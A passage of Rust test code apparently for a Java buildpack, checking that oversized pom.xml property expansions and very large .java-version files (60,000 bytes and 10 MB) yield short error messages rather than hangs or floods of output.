    let (process, took) = generate_bounded(&run);
    let process = process.unwrap_or_else(|| panic!("generate hung ({took:?})"));
    assert_eq!(process.exit_code, 1, "{}", process.stderr);
    assert!(
        process.stderr.starts_with(
            "ERROR: Cannot use the app's Java version\n  pom.xml sets the Java version with \
             <maven.compiler.release>, but its ${...} property references expand to more than \
             1024 bytes"
        ),
        "{}",
        process.stderr
    );
}

#[test]
fn a_ten_megabyte_java_version_prints_a_short_error() {
    let (module, _module_dir) = with_catalogue(&fixture("images-ubi9.json"));
    // Under the read limit: the value is refused and quoted cut.
    let app = app_with(&[(".java-version", &"1".repeat(60_000))]);
    let outcome = ModuleRun::new(&module, app.path())
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(JDK_ONLY)
        .generate();
    assert_failure(&outcome, &["… (cut, 60000 bytes in all)"]);
    assert!(
        outcome.process.stderr.len() < 1000,
        "{}",
        outcome.process.stderr
    );
    assert!(
        outcome.process.stdout.len() < 1000,
        "{}",
        outcome.process.stdout
    );
    // 10 MB: over the read limit.
    let app = app_with(&[(".java-version", &"1".repeat(10 << 20))]);
    let outcome = ModuleRun::new(&module, app.path())
        .lifecycle_env(STACK_ID, UBI9)
        .buildpack_plan(JDK_ONLY)
        .generate();
    assert_failure(&outcome, &[".java-version is larger than 65536 bytes"]);
    assert!(
        outcome.process.stderr.len() < 1000,
        "{}",
        outcome.process.stderr
    );
}
